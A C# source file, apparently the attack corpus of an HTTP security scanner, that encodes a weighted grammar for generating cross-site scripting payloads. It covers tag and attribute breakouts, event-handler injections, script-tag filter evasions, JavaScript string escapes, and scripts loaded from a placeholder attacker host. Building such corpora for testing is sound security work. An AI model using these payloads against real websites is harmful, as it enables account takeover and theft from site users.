namespace Weir.Http.Corpus.Attacks;

/// <summary>Leaving the text, attribute or script string before.</summary>
/// <remarks>OWASP WSTG-INPV-01 and 02, CAPEC-63, CAPEC-243, CWE-79; the tokeniser of the HTML standard.</remarks>
internal static class XssBreakouts
{
    public const string Text = """"
        ¶ ---- leaving the text or attribute before ----
        §breakhtml
        14×
        4× ">
        3× '>
        2× >
        2× "/>
        «word»
        «word»">
        </«title¦textarea¦script¦style¦noscript¦iframe¦select¦xmp¦plaintext¦template¦math¦svg¦option¦a»>
        "></«title¦textarea¦script¦a¦div¦style»>
        '></«title¦textarea¦script¦select»>
        -->
        --!>
        ]]>
        %22%3E
        '"/>
        '">
        \">
        "'>
        `>
        &quot;>
        <!--
        </«word»>
        <«b¦p¦div¦a»>
        "-->
        */-->
        %00
        «num»
        <img/src=`%00`>
        §tg
        8× «tagname»
        2× «tagname→case»
        «tagname→upper»
        §tagname
        8× img
        6× svg
        4× body
        3× iframe
        3× input
        2× video
        2× audio
        2× details
        2× a
        2× div
        «marquee¦object¦embed¦button¦select¦textarea¦form¦style¦link¦math¦table¦td¦br¦hr¦p¦span¦keygen¦isindex¦frameset¦frame¦bgsound¦image¦source¦track¦meter¦dialog¦option¦label¦h1¦b¦i¦ul¦li¦font¦center¦xss¦x¦custom-tag¦slot¦template¦portal¦main¦article¦section¦nav¦html¦head¦base¦applet¦layer¦ilayer¦xml¦noscript¦fieldset¦legend¦canvas¦map¦area¦picture¦progress¦time¦data¦q¦s¦u¦tt¦code¦pre¦blockquote¦dl¦menu¦summary¦rt¦figure¦abbr¦«rand»»
        §event
        10× onerror
        10× onload
        5× onclick
        5× onmouseover
        4× onfocus
        2× ontoggle
        «onmouseenter¦onmousemove¦onmouseout¦onmousedown¦onmouseup¦onmouseleave¦ondblclick¦onkeydown¦onkeypress¦onkeyup¦onblur¦onchange¦oninput¦oninvalid¦onsubmit¦onreset¦onselect¦onresize¦onscroll¦onscrollend¦onwheel¦onunload¦onbeforeunload¦onpageshow¦onpagehide¦onhashchange¦onpopstate¦onmessage¦onstorage¦ononline¦onoffline¦onstart¦onfinish¦onbounce¦onbegin¦onend¦onrepeat¦oncut¦oncopy¦onpaste¦onbeforecopy¦onbeforecut¦onbeforepaste¦oncontextmenu¦ondrag¦ondragstart¦ondragend¦ondragenter¦ondragover¦ondrop¦onplay¦onplaying¦onpause¦onended¦onloadstart¦onloadeddata¦onloadedmetadata¦oncanplay¦oncanplaythrough¦ontimeupdate¦onprogress¦onseeked¦onvolumechange¦ondurationchange¦onwaiting¦onsuspend¦onpointerover¦onpointerdown¦onpointerenter¦onpointermove¦onpointerrawupdate¦onpointerup¦ontouchstart¦ontouchend¦ontouchmove¦onanimationstart¦onanimationend¦onanimationiteration¦onanimationcancel¦ontransitionend¦ontransitionrun¦ontransitionstart¦onwebkitanimationstart¦onwebkitanimationend¦onwebkittransitionend¦onfocusin¦onfocusout¦onauxclick¦onsearch¦onshow¦onclose¦oncancel¦onbeforetoggle¦onbeforeinput¦onbeforematch¦onbeforescriptexecute¦onafterscriptexecute¦onreadystatechange¦onpropertychange¦onactivate¦onbeforeactivate¦onbeforeprint¦onafterprint¦oncuechange¦onslotchange¦onsecuritypolicyviolation¦onformdata¦onfilterchange¦ondatasetcomplete¦onlayoutcomplete¦onrowexit¦onlosecapture¦onerrorupdate¦onhelp¦ongotpointercapture¦onlostpointercapture¦onmousewheel¦onunhandledrejection¦oncontentvisibilityautostatechange¦onscrollsnapchange¦onwebkitmouseforceup¦onfullscreenchange¦on«rand»»
        §ev
        8× «event»
        «event→case»
        «event→upper»
        §gap
        12× ␠
        4× /
        «␉¦␤¦␍␤¦  ¦/«letter»/¦␠/¦%0a¦%09¦%0c¦%0d¦%20¦%2f¦//¦/**/¦␋¦/␠¦%0a%0d¦&Tab;»
        §eq
        14× =
        «␠= ¦=␠¦ =¦%3d¦=␤¦␉=␉¦&#61;»
        §qjs
        8× «jspart»
        5× "«jspart»"
        4× '«jspart»'
        2× `«jspart»`
        2× javascript:«jspart»
        "javascript:«jspart»"
        \"«jspart»\"
        &quot;«jspart»&quot;
        «jspart→entdec»
        "«jspart→entsome»"
        %22«jspart»%22
        &#39;«jspart»&#39;
        §tagend
        8× >
        3× />
        2× ␠>
        2× //>
        3×
        ␠//
        <
        ></«tagname»>
        >«xssword»
        >«xssword»</«tagname»>
        %3E
        ␠x=
        ␠«letter»="
        ␤>
        §extra
        14×
        2× «gap»src«eq»«srcval»
        «gap»«autofocus¦autofocus tabindex=1¦tabindex=1 id=x¦contenteditable¦autoplay¦autoplay controls¦loop=1 width=0¦open¦style=«styleval»¦id=x¦type=image¦type="image" src=x¦hidden¦accesskey=x¦width=1 height=1¦class="«word»"¦href=#¦border=0¦controls¦draggable=true¦data-«letter»=«letter»¦title="«letter»"¦alt=''¦name=«letter»¦popover¦autofocus=''¦ismap¦«letter»=«letter»»
        §styleval
        «"display:block"¦position:fixed;top:0;left:0;width:100%;height:100%¦"animation-name:x"¦animation:x 1s¦'width:9999px;height:9999px'¦transition:all»
        §srcval
        4× x
        2× «1¦#¦a¦/¦"x"¦'x'¦""¦x:x¦//«evilhost»/x¦1.jpg¦«letter»¦data:¦http://«evilhost»/¦`x`¦«rand»¦_¦?¦/¦validimage.png¦x:¦javascript:«jspart»»
        §eventtag
        9× <«tg»«gap»«ev»«eq»«qjs»«tagend»
        6× <img«gap»src«eq»«srcval»«gap»«onerr»«eq»«qjs»«tagend»
        5× <svg«gap»«loadev»«eq»«qjs»«tagend»
        3× <«tg»«extra»«gap»«ev»«eq»«qjs»«tagend»
        2× <«tg»«gap»«ev»«eq»«qjs»«extra»«tagend»
        2× <body«gap»«ev»«eq»«qjs»«tagend»
        2× <input«gap»«autofocus ¦type=text ¦»onfocus«eq»«qjs»«¦ autofocus»«tagend»
        2× <details«gap»«open ¦»ontoggle«eq»«qjs»«tagend»
        2× <iframe«gap»onload«eq»«qjs»«tagend»
        <«video¦audio»«gap»«src=x ¦src=«srcval» ¦»«onerr»«eq»«qjs»«tagend»
        <«video¦audio»><source«gap»onerror«eq»«qjs»«tagend»
        <marquee«gap»«onstart¦onfinish¦onbounce»«eq»«qjs»>«xssword»
        <select«gap»autofocus«gap»onfocus«eq»«qjs»«tagend»
        <«object¦embed»«gap»«data¦src»=«srcval»«gap»onerror«eq»«qjs»«tagend»
        <a«gap»«href=# ¦»onmouseover«eq»«qjs»«tagend»«xssword»</a>
        <style>@keyframes x{}</style><«tg» style="animation-name:x"«gap»onanimation«start¦end»«eq»«qjs»«tagend»
        <«tg»/«letter»«gap»«ev»«eq»«qjs»«tagend»
        <«tg»«gap»«ev»«eq»«qjs»
        <link«gap»rel=«stylesheet¦preload¦import»«gap»href=«srcval»«gap»on«load¦error»«eq»«qjs»«tagend»
        <img«gap»src«eq»«srcval»«gap»onerror«eq»«qjs»«gap»/>
        <«tg» id=x tabindex=1 onfocus«eq»«qjs»></«tagname»>#x
        <button popovertarget=x>«xssword»</button><«tg» popover id=x onbeforetoggle«eq»«qjs»>
        <table background=«'javascript:«jspart»'¦"javascript:«jspart»"¦javascript:«jspart»>»
        <frameset onload«eq»«qjs»«tagend»
        <meta http-equiv="refresh" content="0;url=javascript:«jspart»">
        <x«gap»onclick«eq»«qjs»>«click this!¦«xssword»»
        <image«gap»src«eq»«srcval»«gap»onerror«eq»«qjs»«tagend»
        §onerr
        6× onerror
        onError
        «oNeRrOr¦ONERROR¦OnErRoR»
        onerror␠
        §loadev
        6× onload
        «onLoad¦ONLOAD¦OnLoAd»
        §scripttag
        10× <«sc»>«jspart»</«sc2»>
        4× <«sc»«gap»src«eq»«scripturl»«></«sc2»>¦>¦/>»
        <«sc»>«jspart»//
        <«sc»>«jspart»
        <«sc»>«jspart»</«sc2»«␠¦␤¦/¦»>
        <«sc»«gap»«type=text/javascript¦type="module"¦language="javascript"¦«letter»¦async¦defer¦type=text/vbscript¦charset=utf-8¦/¦«letter»="«letter»"»>«jspart»</«sc2»>
        <«sc»␤>«jspart»</«sc2»␤>
        <script>«run»</script«¦ ¦␤»
        <«script¦SCRIPT» >«jspart»</script >
        <script>/*«letter»*/«jspart»</script>
        <script>//␤«jspart»</script>
        <script>␤«jspart»␤</script>
        <script><!--␤«jspart»␤//--></script>
        <script>var «letter»="«word»";«jspart»</script>
        <script>$=~[];«jspart»</script>
        <script>«obscured»</script>
        <scr<script>ipt>«jspart»</scr</script>ipt>
        <scr\x00ipt>«jspart»</scr\x00ipt>
        <script x> «jspart» </script 1=2
        <script>({})['constructor']['constructor']('«jspart»')()</script>
        <script>«run→slashusome»</script>
        <script src=data:,«jspart»></script>
        <script src="data:text/javascript«;base64,«run→b64»¦,«jspart»»"></script>
        <script>«jspart»<!--
        <script>function b(){return 1};«jspart»</script>
        §sc
        10× script
        2× SCRIPT
        2× ScRiPt
        «scRIPT¦sCrIpT¦script␠¦Script¦scri%00pt¦script/«letter»¦script␉»
        §sc2
        10× script
        2× SCRIPT
        2× ScRiPt
        «sCrIpT¦Script»
        §scripturl
        3× «evilurl»
        2× "«evilurl»"
        2× //«evilhost»
        '«evilurl»'
        "//«evilhost»/«rand».js"
        //«evilhost»/«letter»
        data:,«run»
        http://«evilhost»/xss.js
        \\«evilhost»\«letter»
        ?«rand»
        «evilhost→fullwidth»

        ¶ ---- out of an attribute, out of a script string ----
        §attrbreak
        6× «aq»«gap»«ev»«eq»«aqjs»
        3× «aq»«gap»autofocus«gap»onfocus«eq»«jspart»«gap»«letter»=«aq»
        3× «word»«aq»«gap»«ev»«eq»«aqjs»
        2× «aq»«gap»style=«"animation-name:x"¦position:fixed;inset:0¦"«word»"»«gap»«ev»«eq»«jspart»
        2× «aq»«gap»«ev»«eq»«jspart»//
        «aq»«ev»«eq»«jspart»«aq»
        «ev»«eq»«qjs»
        «aq»«gap»accesskey=«aq»x«aq» onclick=«aq»«jspart»«aq» «letter»=«aq»
        «aq»«gap»href=javascript:«jspart» «letter»=«aq»
        «aq»«gap»srcdoc=«aq»«scriptent»«aq»
        «aq»«gap»type=image src=x onerror=«jspart» «letter»=«aq»
        «aq»«gap»background=javascript:«jspart»
        \«aq»«gap»«ev»«eq»«jspart»//
        `«gap»«ev»«eq»«jspart»
        &#34; «ev»=«jspart»
        %22%20«ev»%3d«jspart»
        §scriptent
        <script>alert(1)</script>
        &lt;script&gt;alert(1)&lt;/script&gt;
        §aq
        5× "
        3× '
        «"/¦'/¦""¦'"¦" ¦%22»
        §aqjs
        3× "«jspart»
        3× '«jspart»
        4× «jspart»
        2× "«jspart»"
        «jspart»«gap»«letter»="
        "«jspart»"«gap»«letter»="
        '«jspart»'«gap»«letter»='
        §jsbreakout
        6× «jq»«jop»«jspart»«jend»
        3× «jq»;«jspart»//
        2× </script><script>«jspart»</script>
        2× </script><svg onload=«jspart»>
        </script>«eventtag»
        ${«jspart»}
        `${«jspart»}`
        \«jq»«jop»«jspart»«jend»
        \\«jq»;«jspart»//
        «jq»}«;¦)¦]¦};¦,»«jspart»«jend»
        «jq»)«;¦}¦});»«jspart»«jend»
        «word»«jq»«jop»«jspart»«jend»
        «jq»«jop»«jspart»«jop»«jq»
        \u0027;«jspart»//
        \x27;«jspart»//
        %27;«jspart»//
        «␤¦%0a¦%0d¦%E2%80%A8»«jspart»«//¦;»
        *//*«jq»;«jspart»/*
        «num»;«jspart»
        «num»}«jspart»//
        -«jspart»-
        ]};«jspart»//
        javascript:/*-/*`/*\`/*'/*"/**/(«jspart»)//
        "></script>«scripttag»
        <!--<script>«jspart»
        §jq
        5× '
        4× "
        `
        «\'¦\"¦')¦")»
        §jop
        4× ;
        3× -
        2× +
        «,¦*¦^¦|¦||¦&&¦?¦%¦/¦ in ¦<¦==¦ instanceof ¦}¦);»
        §jend
        3× //
        3× -'
        2× ;//
        2× +'
        «'¦-"¦+"¦;'¦;"¦<!--¦/*¦␤¦ ;¦//'¦;{'¦})//¦,'»
        """";
}
